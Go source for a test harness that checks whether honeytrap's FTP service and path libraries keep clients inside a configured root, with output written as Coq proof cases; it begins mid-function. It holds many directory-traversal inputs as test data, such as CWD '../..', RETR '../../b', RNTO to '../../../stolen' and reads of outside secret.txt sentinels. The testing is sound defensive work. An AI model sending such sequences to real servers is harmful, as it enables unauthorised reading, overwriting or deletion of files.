				setupStorage(filepath.Join(out, "c11db"), w)
				ob, crash := runFtp(w, replay.Layout%nLayouts, cwdOps)
				add("ftp", replay.Layout%nLayouts, cwdOps, ob, crash)
			}
			hx.Write(o, "C11", "ftp", header+"Import FtpCheck.\n", "case", cases, dist, nil, 40)
			return
		}
	}
	setupStorage(filepath.Join(out, "c11db"), w)
	var seqs [][]Op
	var lays []int // layout of the root's surroundings per sequence (default: by position)
	if replay != nil {
		seqs = [][]Op{replay.Ops}
		lays = []int{replay.Layout % nLayouts}
	} else {
		// siblings whose names extend the root's name (layout 0 holds them)
		for _, ops := range siblingCorpus(cwdOK) {
			seqs = append(seqs, ops)
			lays = append(lays, 0)
		}
		// the client empties the root, then removes / renames / recreates the root itself,
		// spelled in every way, under every layout of its surroundings
		for l := 0; l < nLayouts; l++ {
			for _, ops := range rootCorpus(l, w, cwdOK) {
				seqs = append(seqs, ops)
				lays = append(lays, l)
			}
		}
		if cwdOK {
			C := func(p string) Op { return Op{V: "CWD", P: hx.B(p)} }
			up, pwd := Op{V: "CDUP"}, Op{V: "PWD"}
			N := func(v, p string) Op { return Op{V: v, P: hx.B(p)} }
			seqs = append(seqs, cwdOps,
				// escape attempts through the working directory
				[]Op{up, pwd, up, up, pwd, N("NLST", ""), {V: "REST", Z: -100}, N("RETR", "b"), {V: "REST", Z: -100}, N("RETR", "../b")},
				[]Op{C("../.."), pwd, C("/../.."), pwd, C("../../a"), pwd, N("NLST", ".."), {V: "REST", Z: -100}, N("RETR", "../b"), {V: "REST", Z: -100}, N("RETR", "../../b")},
				[]Op{C("a/a"), up, up, up, pwd, N("RETR", "../b"), C("../.."), N("NLST", ".."), N("MKD", "../../escaped-dir"), pwd},
				[]Op{C("a/a/b"), pwd, C("../../../../../a/b"), pwd, C("../../../.."), pwd, {V: "STOR", P: hx.B("../../b"), Data: hx.B("overwrite")}, N("DELE", "../../../b")},
				[]Op{C("a"), N("RNFR", "b"), N("RNTO", "../../../stolen"), pwd, up, N("NLST", ""), C("../ftp"), C("../SENTINEL-d"), C("/../a/a"), pwd},
				[]Op{C("b"), pwd, C("a/b"), pwd, C("nope"), pwd, C(""), C("a/./../a//a/"), pwd, C("."), pwd},
				// the host-side spelling of the root, and backslash-delimited "..", as directory names
				[]Op{C(hostSpelled[0] + "/../.."), pwd, C(hostSpelled[0] + "/.."), pwd, C(hostSpelled[0]), pwd, C(hostSpelled[0] + "/../a"), pwd, N("NLST", ""), C(strings.TrimPrefix(hostSpelled[0], "/") + "/../../a"), pwd},
				[]Op{C("..\\.."), pwd, C("a\\.."), pwd, C("/..\\..\\a"), pwd, C("a"), C("..\\..\\.."), pwd, N("LIST", "-a"), N("LIST", "-a ..")},
				// the working directory is removed or replaced under the session
				[]Op{C("a/a/b"), N("RMD", "/a/a/b"), pwd, N("NLST", ""), N("MKD", "x"), up, pwd, N("RMD", "../a"), up, up, pwd},
				[]Op{C("a/a"), N("RNFR", "/a"), N("RNTO", "/c"), pwd, N("NLST", ""), up, pwd, C("/c/a"), pwd, N("RNTO", "x")})
		}
		seqs = append(seqs, ftpCorpus()...)
		n, maxLen := 260, 5
		if o.Tier == "search" {
			n, maxLen = 800, 6
		} else if !quick {
			n, maxLen = 2600, 8
		}
		for i := 0; i < n; i++ {
			if i%8 == 7 {
				// emptied root, then a few commands aimed at the root and around it
				l := 1 + r.Intn(nLayouts-1)
				for len(lays) < len(seqs) {
					lays = append(lays, 0)
				}
				ops := append([]Op(nil), emptyRoot(l, w, false)...)
				for k := r.Range(1, 3); k > 0; k-- {
					v := r.PickStr([]string{"RMD", "RMD", "RMD", "RNFR", "RNTO", "MKD", "STOR", "DELE", "NLST"})
					op := Op{V: v, P: hx.B(r.PickStr(rootSpellings(w)))}
					if r.Chance(1, 4) {
						op.P = hx.B(genFtpPath(r, all))
					}
					if v == "STOR" {
						op.Data = hx.B("raced")
					}
					ops = append(ops, op)
				}
				seqs = append(seqs, ops)
				lays = append(lays, l)
				continue
			}
			seqs = append(seqs, genFtpOps(r, all, maxLen, cwdOK))
		}
	}
	for i, ops := range seqs {
		l := []int{0, 0, 1, 2}[i%4]
		if i < len(lays) {
			l = lays[i]
		}
		ob, crash := runFtp(w, l, ops)
		add("ftp", l, ops, ob, crash)
	}
	hx.Write(o, "C11", "ftp", header+"Import FtpCheck.\n", "case", cases, dist, nil, 40)
}
