// C11 harness: FTP clients cannot reach outside the service's filesystem root.
//
// Three parts, one case file each:
//   lib  - path/filepath (Clean, IsAbs, Join, Rel) against the component-level model, over
//          all path strings built from the components {a, b, .., ., ""} (up to 5, relative
//          and absolute) plus sampled odd/long strings;
//   htfs - services/filesystem.Htfs: histories of ChangeDir/RealPath/Cwd on a scratch tree;
//   ftp  - the real FTP service (services.Get("ftp")) on a scratch root with a sentinel tree
//          beside it: command sequences with path arguments; replies, transferred bytes and
//          a snapshot of the whole window (root, its parent, its grandparent), of a host
//          directory whose absolute name is mirrored inside the root, and of the harness's
//          working directory with its parent, afterwards.
//
// CWD/CDUP are probed in a child process first (Fs.ChangeDir in services/ftp/ftpfs.go used
// to call itself: stack exhaustion) and are used in-process when the child survives.
package main

import (
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"time"

	"github.com/honeytrap/honeytrap/services/filesystem"
	"verif/harness/hx"
)

// ---- replay/evidence input ----

type Op struct {
	V    string `json:"v"`              // verb (ftp) or "cd"/"real" (htfs)
	P    hx.B   `json:"p,omitempty"`    // path argument, raw bytes
	Data hx.B   `json:"data,omitempty"` // STOR payload
	Z    int64  `json:"z,omitempty"`    // REST argument
	// data-channel fault of a transfer command: "reset" (STOR: after Data has been sent;
	// LIST/NLST: before anything is read), "nodata" (LIST/NLST without a data connection)
	Fault string `json:"fault,omitempty"`
}

type Input struct {
	Part string `json:"part"` // lib | htfs | ftp | ftp-cwd
	P    hx.B   `json:"p,omitempty"`
	Q    hx.B   `json:"q,omitempty"`
	Ops  []Op   `json:"ops,omitempty"`
	// ftp: which layout of the root's surroundings (see treeSpec)
	Layout int `json:"layout,omitempty"`
}

// ---- path enumeration ----

var alphabet = []string{"a", "b", "..", ".", ""}

// all strings of 1..n components over the alphabet, relative and absolute, de-duplicated,
// in a fixed order
func enumPaths(n int) []string {
	seen := map[string]bool{}
	var out []string
	var rec func(prefix []string, depth int)
	rec = func(prefix []string, depth int) {
		if len(prefix) > 0 {
			rel := strings.Join(prefix, "/")
			for _, s := range []string{rel, "/" + rel} {
				if !seen[s] {
					seen[s] = true
					out = append(out, s)
				}
			}
		}
		if depth == n {
			return
		}
		for _, c := range alphabet {
			rec(append(append([]string(nil), prefix...), c), depth+1)
		}
	}
	rec(nil, 0)
	return out
}

func compCount(s string) int { return strings.Count(s, "/") + 1 }

var oddComps = []string{"a", "b", "..", ".", "", "...", "..a", "a..", ".a", "a b", "-l", "~", "*", "\\", "\xff\xfe", "%2e%2e", "ab", "a\tb", "..\\..", "\xc2\xa0x"}

func oddPath(r *hx.Rand) string {
	n := r.Range(1, 8)
	if r.Chance(1, 10) {
		n = r.Range(20, 60)
	}
	var cs []string
	for i := 0; i < n; i++ {
		cs = append(cs, oddComps[r.Intn(len(oddComps))])
	}
	s := strings.Join(cs, "/")
	if r.Bool() {
		s = "/" + s
	}
	return s
}

// Paths that begin with the HOST-side spelling of the service root (absolute, relative,
// doubled/trailing separators), followed by "..", ".", empty and dotted components: a client
// can send them like any other string.
var hostSuffixes = []string{"", ".", "..", "...", "/", "//", "/.", "/..", "/...", "/../", "/../..", "/../../", "/../../..", "//..//..",
	"/./../.", "/../b", "/../../b", "/../a/b", "/../../a/b", "/a/../../b", "/../secret.txt", "/../../secret.txt", "/../made", "/../../made",
	"/a", "/a/b", "/b", "/a/..", "/a/../..", "/a/a/../../..", "/..\\..", "\\..\\..", "/../" + rootName, "/../" + rootName + "/b", "/../../ftp/" + rootName + "/b",
	"/../" + rootName + ".old", "/../" + rootName + ".old/secret.txt", "/../" + rootName + "2/b", "/../../ftp/" + rootName + ".old/b", ".old", ".old/secret.txt", "2/b", "-"}

func hostPaths(root string) []string {
	var out []string
	for _, pre := range []string{root, strings.TrimPrefix(root, "/"), "/" + root, root + "/", "./" + root, "a/../.." + root} {
		for _, suf := range hostSuffixes {
			out = append(out, pre+suf)
		}
	}
	return out
}

// The service root is configured (storage key fs_root), so its NAME is ours to choose - and
// so are the names beside it.  Containment judged on text ("does the resolved path begin with
// the root's spelling?") instead of on components cannot tell the root from a sibling whose
// name extends the root's name; siblingNames are such entries (the last one is the other way
// round: a proper prefix of the root's name).
const rootName = "root"

var siblingNames = []string{rootName + ".old", rootName + "2", rootName + "-", rootName[:len(rootName)-1]}

// what follows the sibling's (or the root's own) name in a path
var siblingTails = []string{"", "/b", "/a/b", "/secret.txt"}

// every name of siblingTargets after k = 1..3 ".." components, absolute and relative, bare and
// with a tail, plus spellings with an inside component in front, doubled and trailing
// separators and a detour through the root's own name
func siblingTargets() []string { return append(append([]string(nil), siblingNames...), rootName) }

func siblingPaths() []string {
	var out []string
	for k := 1; k <= 3; k++ {
		for _, name := range siblingTargets() {
			for _, tail := range siblingTails {
				rel := strings.Repeat("../", k) + name + tail
				out = append(out, "/"+rel, rel)
			}
		}
	}
	for _, name := range siblingTargets() {
		out = append(out, "/a/../../"+name+"/secret.txt", "a/../../"+name+"/b", "//..//"+name+"//secret.txt/", "/a/b/../../../"+name,
			"/../"+rootName+"/../"+name+"/secret.txt", "/./../"+name+"/.", "/../../ftp/"+name+"/secret.txt", "/.."+"/"+name+"/../"+name+"/b")
	}
	return out
}

// ".." and other components delimited by backslashes (one ordinary component on unix)
var backslashPaths = []string{"..\\..", "..\\..\\secret.txt", "..\\secret.txt", "..\\b", "..\\..\\b", "a\\..\\..\\..\\b", "/..\\..", "/..\\..\\secret.txt",
	"a\\b", "\\a\\b", "..\\..\\made", "..\\made", "a/..\\..\\..\\b", "..\\../b", "../..\\b", "\\..\\..\\secret.txt", "..\\..\\a\\b", "b\\", "\\", "..\\"}

// a path argument that survives the FTP line parser unchanged: no CR/LF/NUL and no
// white space at either end
func ftpSafe(s string) bool {
	if strings.ContainsAny(s, "\r\n\x00") {
		return false
	}
	return strings.TrimSpace(s) == s
}

// ---- the scratch window ----

type entry struct {
	Key  string `json:"key"`
	Dir  bool   `json:"dir"`
	Data hx.B   `json:"data,omitempty"`
}

type window struct {
	win    string // the window around the root: everything at or beneath win is snapshotted
	base   string // win/L1/L2: the file system base given to the service (root = base/ftp/root)
	root   string // base/ftp/root
	abs    string // a host directory whose absolute name is mirrored inside the root
	cwdTop string // parent of the harness's working directory
	wd     string // the harness's working directory (cwdTop/wd)
}

// newWindow lays the scratch areas out beneath top.
func newWindow(top string) window {
	w := window{win: filepath.Join(top, "c11win"), abs: filepath.Join(top, "c11-host-sentinel"), cwdTop: filepath.Join(top, "c11cwd")}
	w.base = filepath.Join(w.win, "L1", "L2")
	w.root = filepath.Join(w.base, "ftp", rootName)
	w.wd = filepath.Join(w.cwdTop, "wd")
	return w
}

// Sentinel contents: "SENTINEL-" + an upper-case tail, so that every 4-byte piece of one holds
// an upper-case letter - nothing the harness stores inside the root does.  secret.txt files
// have sizes (777, 1234) that no file inside the root can reach in a session of <= 10 commands
// (uploads are < 20 or > 3000 bytes).
func secret(tag string, n int) string { return secretOver(tag, n, "QZXJKWVY") }

// the same over another tail alphabet: no 4-byte piece of the tail occurs in a secret() file, so
// a transferred piece tells which group of outside files it came from
func secretOver(tag string, n int, alpha string) string {
	s := "SENTINEL-" + tag + "-"
	for len(s) < n {
		s += alpha[len(s)%len(alpha) : len(s)%len(alpha)+1]
	}
	return s
}

// The root lies four levels below the window top: <win>/L1/L2/ftp/root.  Three layouts of what
// surrounds it (bit k of lay = present in layout k):
//   0  same-named sentinel files and directories beside the root, in every ancestor; and beside
//      the root entries whose NAMES extend the root's name (root.old/, root2/, the file root-)
//      or are a proper prefix of it (roo/), holding sentinel files, a secret.txt of 901 bytes
//      and an empty directory each
//   1  the ancestors hold nothing but the chain down to the root (as with a single
//      makeRoot-style root): removing the root leaves its parent empty
//   2  every ancestor holds the chain and one EMPTY sentinel directory
// The window top always holds a sentinel file and an empty sentinel directory.
const nLayouts = 3

var treeSpec = []struct {
	rel  string
	dir  bool
	data string
	lay  int
}{
	{"SENTINEL-top", false, "SENTINEL-0-QZXJ", 7},
	{"EMPTY-top", true, "", 7},
	{"L1", true, "", 7},
	{"L1/L2", true, "", 7},
	{"L1/L2/ftp", true, "", 7},
	{"L1/L2/ftp/root", true, "", 7},
	{"L1/L2/ftp/root/a", true, "", 7},
	{"L1/L2/ftp/root/a/a", true, "", 7},
	{"L1/L2/ftp/root/a/a/b", true, "", 7},
	{"L1/L2/ftp/root/a/b", false, "inside-a-b", 7},
	{"L1/L2/ftp/root/b", false, "inside-b-0123456789", 7},
	{"L1/L2/ftp/a", true, "", 1},
	{"L1/L2/ftp/a/a", true, "", 1},
	{"L1/L2/ftp/a/b", false, "SENTINEL-1-QZXJ", 1},
	{"L1/L2/ftp/b", false, "SENTINEL-2-QZXJ", 1},
	{"L1/L2/ftp/SENTINEL-d", true, "", 1},
	{"L1/L2/ftp/SENTINEL-d/a", false, "SENTINEL-3-QZXJ", 1},
	{"L1/L2/ftp/secret.txt", false, secret("S1", 777), 1},
	{"L1/L2/a", true, "", 1},
	{"L1/L2/a/a", true, "", 1},
	{"L1/L2/a/b", false, "SENTINEL-4-QZXJ", 1},
	{"L1/L2/b", false, "SENTINEL-5-QZXJ", 1},
	{"L1/L2/secret.txt", false, secret("S2", 1234), 1},
	{"L1/b", false, "SENTINEL-6-QZXJ", 1},
	{"L1/L2/ftp/" + rootName + ".old", true, "", 1},
	{"L1/L2/ftp/" + rootName + ".old/a", true, "", 1},
	{"L1/L2/ftp/" + rootName + ".old/a/b", false, "SENTINEL-BESIDE-OLD-AB-HGFD", 1},
	{"L1/L2/ftp/" + rootName + ".old/b", false, "SENTINEL-BESIDE-OLD-B-MNPH", 1},
	{"L1/L2/ftp/" + rootName + ".old/secret.txt", false, secretOver("S3", 901, "HGFDMNPT"), 1},
	{"L1/L2/ftp/" + rootName + ".old/EMPTY-d", true, "", 1},
	{"L1/L2/ftp/" + rootName + "2", true, "", 1},
	{"L1/L2/ftp/" + rootName + "2/b", false, "SENTINEL-BESIDE-TWO-B-GFDM", 1},
	{"L1/L2/ftp/" + rootName + "2/secret.txt", false, secretOver("S4", 1501, "TNPMDFGH"), 1},
	{"L1/L2/ftp/" + rootName + "2/EMPTY-d", true, "", 1},
	{"L1/L2/ftp/" + rootName + "-", false, "SENTINEL-BESIDE-DASH-FDMN", 1},
	{"L1/L2/ftp/" + rootName[:len(rootName)-1], true, "", 1},
	{"L1/L2/ftp/" + rootName[:len(rootName)-1] + "/b", false, "SENTINEL-SHORTER-B-UYAE", 1},
	{"L1/L2/ftp/" + rootName[:len(rootName)-1] + "/secret.txt", false, secretOver("S5", 2002, "BCORUYAE"), 1},
	{"L1/L2/ftp/EMPTY-SENTINEL", true, "", 4},
	{"L1/L2/EMPTY-SENTINEL", true, "", 4},
	{"L1/EMPTY-SENTINEL", true, "", 4},
}

// beside the harness's working directory (names a client can give relative to it)
var cwdSpec = []struct {
	rel  string
	dir  bool
	data string
}{
	{"b", false, "SENTINEL-CWDUP-B-QZXJ"},
	{"a", true, ""},
	{"a/b", false, "SENTINEL-CWDUP-AB-QZXJ"},
	{"secret.txt", false, "SENTINEL-CWDUP-S-QZXJ"},
	{"wd/b", false, "SENTINEL-CWD-B-QZXJ"},
	{"wd/a", true, ""},
	{"wd/a/b", false, "SENTINEL-CWD-AB-QZXJ"},
	{"wd/secret.txt", false, "SENTINEL-CWD-S-QZXJ"},
}

func mustWrite(p string, dir bool, data string) {
	var err error
	if dir {
		err = os.Mkdir(p, 0o755)
	} else {
		err = os.WriteFile(p, []byte(data), 0o644)
	}
	if err != nil {
		hx.Fatal("build window: %v", err)
	}
}

// the host file <abs>/f and, inside the root, a regular file with the same absolute name
func (w window) absFile() string { return filepath.Join(w.abs, "f") }

func (w window) reset() { w.resetLayout(0) }

func (w window) resetLayout(layout int) {
	for _, d := range []string{w.win, w.abs} {
		if err := os.RemoveAll(d); err != nil {
			hx.Fatal("reset window: %v", err)
		}
		if err := os.MkdirAll(d, 0o755); err != nil {
			hx.Fatal("reset window: %v", err)
		}
	}
	for _, t := range treeSpec {
		if t.lay&(1<<uint(layout)) != 0 {
			mustWrite(filepath.Join(w.win, t.rel), t.dir, t.data)
		}
	}
	mustWrite(w.absFile(), false, "SENTINEL-ABS-QZXJ")
	mustWrite(filepath.Join(w.abs, "d"), true, "")
	if layout == 0 {
		mirror := filepath.Join(w.root, w.abs)
		if err := os.MkdirAll(mirror, 0o755); err != nil {
			hx.Fatal("build window: %v", err)
		}
		mustWrite(filepath.Join(mirror, "f"), false, "inside-mirror")
	}
	// the working directory itself must stay (it is the process's cwd): empty it instead
	if err := os.MkdirAll(w.wd, 0o755); err != nil {
		hx.Fatal("reset window: %v", err)
	}
	for _, d := range []string{w.wd, w.cwdTop} {
		es, err := os.ReadDir(d)
		if err != nil {
			hx.Fatal("reset window: %v", err)
		}
		for _, e := range es {
			if d == w.cwdTop && e.Name() == "wd" {
				continue
			}
			if err := os.RemoveAll(filepath.Join(d, e.Name())); err != nil {
				hx.Fatal("reset window: %v", err)
			}
		}
	}
	for _, t := range cwdSpec {
		mustWrite(filepath.Join(w.cwdTop, t.rel), t.dir, t.data)
	}
	w.stamp()
}

var (
	outsideTime = time.Date(2001, 2, 3, 4, 5, 0, 0, time.UTC)
	insideTime  = time.Date(2010, 10, 10, 10, 10, 0, 0, time.UTC)
)

// stamp gives every entry outside the root a mode and modification time that nothing inside
// the root has (directories 0751, files 0640, 2001-02-03 04:05) and the initial content of
// the root a fixed time of its own: metadata of an outside entry is recognisable in a listing.
func (w window) stamp() {
	for _, top := range []string{w.win, w.abs, w.cwdTop} {
		var paths []string
		filepath.Walk(top, func(p string, info os.FileInfo, err error) error {
			if err == nil {
				paths = append(paths, p)
			}
			return nil
		})
		// children before parents: creating nothing, but chtimes of a parent last is tidier
		for i := len(paths) - 1; i >= 0; i-- {
			p := paths[i]
			info, err := os.Lstat(p)
			if err != nil {
				hx.Fatal("stamp: %v", err)
			}
			if p == w.root || strings.HasPrefix(p, w.root+"/") {
				if err := os.Chtimes(p, insideTime, insideTime); err != nil {
					hx.Fatal("stamp: %v", err)
				}
				continue
			}
			mode := os.FileMode(0o640)
			if info.IsDir() {
				mode = 0o751
			}
			if err := os.Chmod(p, mode); err != nil {
				hx.Fatal("stamp: %v", err)
			}
			if err := os.Chtimes(p, outsideTime, outsideTime); err != nil {
				hx.Fatal("stamp: %v", err)
			}
		}
	}
}

func (w window) snapshot() []entry {
	var out []entry
	walk := func(p string, info os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		e := entry{Key: p, Dir: info.IsDir()}
		if !info.IsDir() {
			if info.Mode().IsRegular() {
				b, err := os.ReadFile(p)
				if err != nil {
					return err
				}
				e.Data = b
			} else {
				e.Data = []byte("?special:" + info.Mode().String())
			}
		}
		out = append(out, e)
		return nil
	}
	for _, d := range []string{w.win, w.abs, w.cwdTop} {
		if err := filepath.Walk(d, walk); err != nil {
			hx.Fatal("snapshot: %v", err)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Key < out[j].Key })
	return out
}

// long contents of the initial window are named once in the shard header
var namedContent = map[string]string{}

// mode of every entry of the snapshot areas that is not inside the root
func (w window) outsideModes() map[string]os.FileMode {
	m := map[string]os.FileMode{}
	for _, d := range []string{w.win, w.abs, w.cwdTop} {
		filepath.Walk(d, func(p string, info os.FileInfo, err error) error {
			if err == nil && p != w.root && !strings.HasPrefix(p, w.root+"/") {
				m[p] = info.Mode()
			}
			return nil
		})
	}
	return m
}

func coqFS(es []entry) string {
	var xs []string
	for _, e := range es {
		n := "NDir"
		if !e.Dir {
			if nm, ok := namedContent[string(e.Data)]; ok {
				n = "NFile " + nm
			} else {
				n = "NFile " + hx.CoqBytes(e.Data)
			}
		}
		xs = append(xs, fmt.Sprintf("(%s, %s)", hx.CoqStr(e.Key), n))
	}
	return hx.CoqList(xs, "(bytes * node)")
}

// places a path escaping by another route would land in: the host root and the process's
// working directory
var escapeProbes = []string{"/a", "/b", "/c", "/escaped-dir", "escaped-dir", "/stolen", "c", "stolen", "a", "b", "ftp", "root", "../a", "../b"}

func escapeState() string {
	var sb strings.Builder
	for _, p := range escapeProbes {
		if _, err := os.Lstat(p); err == nil {
			sb.WriteString(p + ";")
		}
	}
	return sb.String()
}

// ---- part lib ----

type LibObs struct {
	Clean hx.B `json:"clean"`
	Abs   bool `json:"abs"`
	Join  hx.B `json:"join"`
	RelOK bool `json:"rel_ok"`
	Rel   hx.B `json:"rel,omitempty"`
}

func runLib(in Input) LibObs {
	p, q := string(in.P), string(in.Q)
	ob := LibObs{Clean: hx.B(filepath.Clean(p)), Abs: filepath.IsAbs(p), Join: hx.B(filepath.Join(q, p))}
	rel, err := filepath.Rel(q, filepath.Join(q, p))
	if err == nil {
		ob.RelOK = true
		ob.Rel = hx.B(rel)
	}
	return ob
}

func coqLib(id int, in Input, ob LibObs) string {
	return fmt.Sprintf("mkLC %s %s %s %s %s %s %s", hx.CoqN(uint64(id)), hx.CoqBytes(in.P), hx.CoqBytes(in.Q),
		hx.CoqBytes(ob.Clean), hx.CoqBool(ob.Abs), hx.CoqBytes(ob.Join), hx.CoqOpt(hx.CoqBytes(ob.Rel), ob.RelOK, "bytes"))
}

var libBases = []string{"", "/", "/a", "/a/b", "a", "..", "/a/../b/", "/r/s", "./a/", "//", "../a", "/.."}

// ---- part htfs ----

type HObs struct {
	Code int  `json:"code"` // cd: 0 ok, 1 error; real: 0
	Text hx.B `json:"text"` // cd: Cwd() afterwards; real: RealPath
}

func runHtfs(w window, in Input) ([]HObs, string) {
	fs, err := filesystem.New(w.base, "ftp", rootName)
	if err != nil {
		hx.Fatal("filesystem.New: %v", err)
	}
	var obs []HObs
	for _, o := range in.Ops {
		switch o.V {
		case "cd":
			code := 0
			if err := fs.ChangeDir(string(o.P)); err != nil {
				code = 1
			}
			obs = append(obs, HObs{Code: code, Text: hx.B(fs.Cwd())})
		case "real":
			obs = append(obs, HObs{Text: hx.B(fs.RealPath(string(o.P)))})
		default:
			hx.Fatal("htfs op %q", o.V)
		}
	}
	return obs, ""
}

func coqHtfs(id int, in Input, obs []HObs) string {
	var ops, os_ []string
	for _, o := range in.Ops {
		if o.V == "cd" {
			ops = append(ops, "HCd "+hx.CoqBytes(o.P))
		} else {
			ops = append(ops, "HReal "+hx.CoqBytes(o.P))
		}
	}
	for _, o := range obs {
		os_ = append(os_, fmt.Sprintf("(%s, %s)", hx.CoqN(uint64(o.Code)), hx.CoqBytes(o.Text)))
	}
	return fmt.Sprintf("mkHC %s ROOT FS0 %s %s", hx.CoqN(uint64(id)), hx.CoqList(ops, "hop"), hx.CoqList(os_, "(N * bytes)"))
}

var cwds = []string{"/", "/a", "/a/a", "/a/a/b", "/a/../a/./a/"}

// ---- main ----

func main() {
	if os.Getenv("C11_CHILD") != "" {
		childMain()
		return
	}
	o := hx.ParseArgs()
	r := hx.NewRand(o.Seed)
	if o.Only != "" {
		if p, err := filepath.Abs(o.Only); err == nil {
			o.Only = p
		}
	}
	out, err := filepath.Abs(o.Out)
	if err != nil {
		hx.Fatal("abs: %v", err)
	}
	w := newWindow(out)
	// a working directory of our own with sentinels in and beside it, so that paths taken
	// relative to the process are visible
	os.RemoveAll(w.cwdTop)
	if err := os.MkdirAll(w.wd, 0o755); err != nil {
		hx.Fatal("mkdir: %v", err)
	}
	if err := os.Chdir(w.wd); err != nil {
		hx.Fatal("chdir: %v", err)
	}
	var fsL [nLayouts][]entry
	for l := nLayouts - 1; l >= 0; l-- {
		w.resetLayout(l)
		fsL[l] = w.snapshot()
	}
	fs0 := fsL[0]
	header := "From HT Require Import Common.Bytes C11.Model C11.Check.\n"
	for _, e := range fs0 {
		if !e.Dir && len(e.Data) > 100 {
			if _, ok := namedContent[string(e.Data)]; !ok {
				nm := fmt.Sprintf("CONTENT%d", len(namedContent))
				namedContent[string(e.Data)] = nm
				header += "Definition " + nm + " : bytes := " + hx.CoqBytes(e.Data) + ".\n"
			}
		}
	}
	header += "Definition ROOT : bytes := " + hx.CoqStr(w.root) + ".\n" +
		"Definition FS0 : hostfs := " + coqFS(fs0) + ".\n"
	ftpHeader := header
	for l := 1; l < nLayouts; l++ {
		ftpHeader += fmt.Sprintf("Definition FS%d : hostfs := %s.\n", l, coqFS(fsL[l]))
	}

	var replay *Input
	if o.Only != "" {
		var in Input
		if err := hx.LoadReplay(o.Only, &in); err != nil {
			hx.Fatal("replay: %v", err)
		}
		replay = &in
	}
	quick := o.Tier == "quick"
	// search (run by the driver when a proof or the correspondence broke and no failing input
	// is in hand yet): about three times quick, a minute at most
	search := o.Tier == "search"
	all := enumPaths(5)
	host := hostPaths(w.root)
	sibs := siblingPaths()

	// ---------- lib ----------
	if replay == nil || replay.Part == "lib" {
		var ins []Input
		if replay != nil {
			ins = []Input{*replay}
		} else {
			for i, p := range all {
				if (quick || search) && compCount(strings.TrimPrefix(p, "/")) > 3 && !r.Chance(1, 12) {
					continue
				}
				q := libBases[i%len(libBases)]
				if r.Chance(1, 3) {
					q = libBases[r.Intn(len(libBases))]
				}
				ins = append(ins, Input{Part: "lib", P: hx.B(p), Q: hx.B(q)})
			}
			// the host-side spelling of the root as a prefix, and backslash-delimited components
			for i, p := range host {
				q := []string{w.root, "/", "", "/a", w.root + "/a"}[i%5]
				ins = append(ins, Input{Part: "lib", P: hx.B(p), Q: hx.B(q)})
			}
			for i, p := range backslashPaths {
				ins = append(ins, Input{Part: "lib", P: hx.B(p), Q: hx.B([]string{"/", w.root, "/a"}[i%3])})
			}
			// names that extend the root's name after 1..3 ".." components: joined onto the root as
			// the client spells them, and - what RealPath does - cleaned first (rooted at "/" or at
			// a working directory) and then joined onto the root
			for i, p := range sibs {
				ins = append(ins, Input{Part: "lib", P: hx.B(p), Q: hx.B(w.root)})
				c := filepath.Join(cwds[i%len(cwds)], p)
				if filepath.IsAbs(p) {
					c = filepath.Clean(p)
				}
				ins = append(ins, Input{Part: "lib", P: hx.B(c), Q: hx.B(w.root)})
			}
			n := 150
			if search {
				n = 500
			} else if !quick {
				n = 1500
			}
			for i := 0; i < n; i++ {
				q := libBases[r.Intn(len(libBases))]
				if r.Chance(1, 4) {
					q = oddPath(r)
				}
				ins = append(ins, Input{Part: "lib", P: hx.B(oddPath(r)), Q: hx.B(q)})
			}
			ins = append(ins, Input{Part: "lib", P: hx.B(strings.Repeat("../", 300) + "a"), Q: hx.B("/a/b")},
				Input{Part: "lib", P: hx.B(""), Q: hx.B("")}, Input{Part: "lib", P: hx.B("\x00/../x"), Q: hx.B("/")})
		}
		dist := map[string]int{}
		var cases []hx.Case
		for i, in := range ins {
			ob := runLib(in)
			if ob.Abs {
				dist["absolute"]++
			} else {
				dist["relative"]++
			}
			if strings.Contains(string(in.P), "..") {
				dist["has-dotdot"]++
			}
			dist[fmt.Sprintf("components:%d", minInt(compCount(string(in.P)), 6))]++
			cases = append(cases, hx.Case{ID: i, Kind: "lib", Input: in, Obs: ob, Coq: coqLib(i, in, ob)})
		}
		hx.Write(o, "C11", "lib", "From HT Require Import Common.Bytes C11.Model C11.Check.\nImport LibCheck.\n", "case", cases, dist, nil, 700)
	}

	// ---------- htfs ----------
	if replay == nil || replay.Part == "htfs" {
		var ins []Input
		if replay != nil {
			ins = []Input{*replay}
		} else {
			for i, p := range all {
				if (quick || search) && !r.Chance(1, 14) && compCount(strings.TrimPrefix(p, "/")) > 2 {
					continue
				}
				c := cwds[i%len(cwds)]
				if r.Chance(1, 3) {
					c = cwds[r.Intn(len(cwds))]
				}
				ins = append(ins, Input{Part: "htfs", Ops: []Op{{V: "cd", P: hx.B(c)}, {V: "real", P: hx.B(p)}, {V: "cd", P: hx.B(p)}, {V: "real", P: hx.B("")}, {V: "real", P: hx.B("b")}}})
			}
			for i, p := range append(append([]string(nil), host...), backslashPaths...) {
				c := cwds[i%len(cwds)]
				ins = append(ins, Input{Part: "htfs", Ops: []Op{{V: "real", P: hx.B(p)}, {V: "cd", P: hx.B(c)}, {V: "real", P: hx.B(p)}, {V: "cd", P: hx.B(p)}, {V: "real", P: hx.B("")}, {V: "real", P: hx.B("../b")}}})
			}
			// siblings whose names extend the root's name: resolved from "/" and from a sub-directory,
			// entered, and resolved again from wherever the session then is
			for i, p := range sibs {
				c := cwds[i%len(cwds)]
				ins = append(ins, Input{Part: "htfs", Ops: []Op{{V: "real", P: hx.B(p)}, {V: "cd", P: hx.B(p)}, {V: "real", P: hx.B("")}, {V: "cd", P: hx.B(c)}, {V: "real", P: hx.B(p)}, {V: "cd", P: hx.B(p)}, {V: "real", P: hx.B("b")}}})
			}
			n := 150
			if search {
				n = 500
			} else if !quick {
				n = 1500
			}
			for i := 0; i < n; i++ {
				var ops []Op
				k := r.Range(1, 6)
				for j := 0; j < k; j++ {
					p := all[r.Intn(len(all))]
					if r.Chance(1, 2) {
						p = all[r.Intn(200)]
					}
					if r.Chance(1, 8) {
						p = oddPath(r)
					} else if r.Chance(1, 8) {
						p = host[r.Intn(len(host))]
					} else if r.Chance(1, 12) {
						p = backslashPaths[r.Intn(len(backslashPaths))]
					} else if r.Chance(1, 10) {
						p = sibs[r.Intn(len(sibs))]
					}
					v := "cd"
					if r.Chance(1, 3) {
						v = "real"
					}
					ops = append(ops, Op{V: v, P: hx.B(p)})
				}
				ins = append(ins, Input{Part: "htfs", Ops: ops})
			}
		}
		dist := map[string]int{}
		var cases []hx.Case
		w.reset()
		for i, in := range ins {
